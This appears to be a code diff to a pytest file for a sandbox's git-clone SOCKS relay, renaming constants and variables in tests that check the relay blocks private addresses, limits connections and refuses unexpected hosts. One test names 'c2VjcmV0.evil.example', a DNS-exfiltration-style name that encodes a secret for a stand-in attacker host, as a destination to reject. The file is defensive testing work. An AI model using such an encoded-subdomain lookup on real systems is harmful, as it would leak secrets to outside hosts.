@@ -22,8 +22,8 @@ from sandbox.workspace.clone.remote import SETTINGS_FILES_MAX, resolve_remote
 from sandbox.workspace.git.directory import neutralize_attributes, read_branch_commit, write_git_directory
 
 KNOWN = b"username=me\npassword=let-me-in\n"
-GRANTED, FORBIDDEN, UNREACHABLE, UNKNOWN_NAME, REFUSED = 0, 2, 3, 4, 5
-STRICT, LENIENT = (DialPolicy(is_dialable, follows_redirects) for follows_redirects in (False, True))
+SOCKS_SUCCEEDED, FORBIDDEN, UNREACHABLE, UNKNOWN_NAME, REFUSED = 0, 2, 3, 4, 5
+WITHOUT_REDIRECTS, WITH_REDIRECTS = (DialPolicy(is_dialable, follows_redirects) for follows_redirects in (False, True))
 
 
 @pytest.fixture
@@ -40,11 +40,11 @@ def request_credentials(url, helper, *requests, secrets=None):
     """The responses to requests of any program in the confinement. secrets: receives the returned passwords."""
 
     async def scenario():
-        outside, inside = socket.socketpair()
+        helper_socket, child_socket = socket.socketpair()
         credentials = CredentialHelper(url, [("credential.helper", str(helper))], {}, os.environ["PATH"])
         credentials.secrets = set() if secrets is None else secrets
-        serving = asyncio.create_task(credentials.serve(outside))
-        reader, writer = await asyncio.open_connection(sock=inside)
+        serving = asyncio.create_task(credentials.serve(helper_socket))
+        reader, writer = await asyncio.open_connection(sock=child_socket)
         responses = []
         for credential_request in requests:
             writer.write(credential_request)
@@ -143,7 +143,7 @@ class ExhaustedListener(socket.socket):
 
 
 def test_failed_accept_is_retried(banner_server):
-    relay = SocksProxy(HostPort("localhost", banner_server), upstream_proxy=None, dial_policy=STRICT)
+    relay = SocksProxy(HostPort("localhost", banner_server), upstream_proxy=None, dial_policy=WITHOUT_REDIRECTS)
 
     async def scenario():
         with ExhaustedListener() as listener:
@@ -170,7 +170,7 @@ def connect(relay, host, port):
                 writer.write(b"\x05\x01\x00\x05\x01\x00\x03" + bytes([len(name)]) + name + struct.pack("!H", port))
                 assert await asyncio.wait_for(reader.readexactly(2), 20) == b"\x05\x00"
                 reply = await asyncio.wait_for(reader.readexactly(10), 20)
-                received = await asyncio.wait_for(reader.read(5), 20) if reply[1] == GRANTED else b""
+                received = await asyncio.wait_for(reader.read(5), 20) if reply[1] == SOCKS_SUCCEEDED else b""
                 writer.close()
                 return reply[1], received
 
@@ -193,23 +193,23 @@ def banner_server():
 
 
 def test_clone_host_is_reachable(banner_server):
-    relay = SocksProxy(HostPort("localhost", banner_server), upstream_proxy=None, dial_policy=STRICT)
+    relay = SocksProxy(HostPort("localhost", banner_server), upstream_proxy=None, dial_policy=WITHOUT_REDIRECTS)
 
-    assert connect(relay, "localhost", banner_server) == (GRANTED, b"hello")
+    assert connect(relay, "localhost", banner_server) == (SOCKS_SUCCEEDED, b"hello")
 
 
 @pytest.mark.parametrize("requested", ["127.0.0.1", "127.1", "0x7f.1", "2130706433"])
 def test_addresses_match_in_any_notation(banner_server, requested):
     remote = resolve_remote(f"http://127.1:{banner_server}/demo.git", [], "", Path("/"))
-    relay = SocksProxy(remote.address, upstream_proxy=None, dial_policy=STRICT)
+    relay = SocksProxy(remote.address, upstream_proxy=None, dial_policy=WITHOUT_REDIRECTS)
 
-    assert connect(relay, requested, banner_server) == (GRANTED, b"hello")
+    assert connect(relay, requested, banner_server) == (SOCKS_SUCCEEDED, b"hello")
     assert connect(relay, "127.2", banner_server)[0] == FORBIDDEN
 
 
 def test_connections_of_a_compromised_git_are_limited(banner_server, monkeypatch):
     monkeypatch.setattr("sandbox.workspace.clone.relay.CLONE_CONNECTIONS_MAX", 2)
-    relay = SocksProxy(HostPort("localhost", banner_server), upstream_proxy=None, dial_policy=STRICT)
+    relay = SocksProxy(HostPort("localhost", banner_server), upstream_proxy=None, dial_policy=WITHOUT_REDIRECTS)
 
     async def greet(listener):
         reader, writer = await asyncio.open_connection(*listener.getsockname())
@@ -238,7 +238,7 @@ PRIVATE = (
 """NAT64 and 6to4 addresses translate to an arbitrary IPv4 address on some networks; the others are not public."""
 
 
-@pytest.mark.parametrize("policy", [LENIENT, STRICT])
+@pytest.mark.parametrize("policy", [WITH_REDIRECTS, WITHOUT_REDIRECTS])
 @pytest.mark.parametrize("host", PRIVATE)
 def test_other_private_addresses_are_unreachable(banner_server, host, policy):
     relay = SocksProxy(HostPort("git.example", banner_server), upstream_proxy=None, dial_policy=policy)
@@ -302,7 +302,7 @@ def test_name_with_only_local_addresses_is_allowed(banner_server, resolve):
     )
 
     resolve(OWN)
-    assert connect(relay, "git.example", banner_server) == (GRANTED, b"hello")
+    assert connect(relay, "git.example", banner_server) == (SOCKS_SUCCEEDED, b"hello")
 
 
 @pytest.mark.parametrize(("requested", "is_allowed"), [("64:ff9b::7f00:2", True), ("64:ff9b::7f00:1", False)])
@@ -327,17 +327,19 @@ def test_translated_addresses_are_checked_by_their_target(monkeypatch, resolve, 
 
 def test_other_ports_require_redirects(banner_server):
     strict, lenient = (
-        SocksProxy(HostPort("localhost", 1), upstream_proxy=None, dial_policy=policy) for policy in (STRICT, LENIENT)
+        SocksProxy(HostPort("localhost", 1), upstream_proxy=None, dial_policy=policy)
+        for policy in (WITHOUT_REDIRECTS, WITH_REDIRECTS)
     )
 
     assert connect(strict, "localhost", banner_server)[0] == FORBIDDEN
-    assert connect(lenient, "localhost", banner_server) == (GRANTED, b"hello")
+    assert connect(lenient, "localhost", banner_server) == (SOCKS_SUCCEEDED, b"hello")
 
 
 def test_other_names_are_not_resolved(monkeypatch):
     monkeypatch.setattr(socket, "getaddrinfo", None)
     strict, lenient = (
-        SocksProxy(HostPort("git.example", 1), upstream_proxy=None, dial_policy=policy) for policy in (STRICT, LENIENT)
+        SocksProxy(HostPort("git.example", 1), upstream_proxy=None, dial_policy=policy)
+        for policy in (WITHOUT_REDIRECTS, WITH_REDIRECTS)
     )
 
     assert connect(strict, "c2VjcmV0.evil.example", 443)[0] == FORBIDDEN
@@ -345,12 +347,12 @@ def test_other_names_are_not_resolved(monkeypatch):
 
 
 def test_git_receives_the_connection_error(banner_server):
-    relay = SocksProxy(HostPort("no-such-host.invalid", 80), upstream_proxy=None, dial_policy=STRICT)
+    relay = SocksProxy(HostPort("no-such-host.invalid", 80), upstream_proxy=None, dial_policy=WITHOUT_REDIRECTS)
     assert connect(relay, "no-such-host.invalid", 80)[0] == UNKNOWN_NAME
     with socket.socket() as bound:
         bound.bind(("127.0.0.1", 0))
         port = bound.getsockname()[1]
-        relay = SocksProxy(HostPort("127.0.0.1", port), upstream_proxy=None, dial_policy=STRICT)
+        relay = SocksProxy(HostPort("127.0.0.1", port), upstream_proxy=None, dial_policy=WITHOUT_REDIRECTS)
         assert connect(relay, "127.0.0.1", port)[0] == REFUSED
 
 
@@ -360,14 +362,14 @@ def test_git_receives_a_connect_timeout(monkeypatch):
 
     monkeypatch.setattr("sandbox.workspace.clone.relay._dial_any", hang)
     monkeypatch.setattr("sandbox.workspace.clone.relay.CLONE_CONNECT_SECONDS", 0.1)
-    relay = SocksProxy(HostPort("localhost", 80), upstream_proxy=None, dial_policy=STRICT)
+    relay = SocksProxy(HostPort("localhost", 80), upstream_proxy=None, dial_policy=WITHOUT_REDIRECTS)
 
     assert connect(relay, "localhost", 80) == (UNREACHABLE, b"")
 
 
 def test_idle_proxy_client_is_disconnected(monkeypatch):
     monkeypatch.setattr("sandbox.workspace.clone.relay.CLONE_CONNECT_SECONDS", 0.1)
-    relay = SocksProxy(HostPort("localhost", 80), upstream_proxy=None, dial_policy=STRICT)
+    relay = SocksProxy(HostPort("localhost", 80), upstream_proxy=None, dial_policy=WITHOUT_REDIRECTS)
 
     async def scenario():
         with socket.create_server(("127.0.0.1", 0)) as listener:
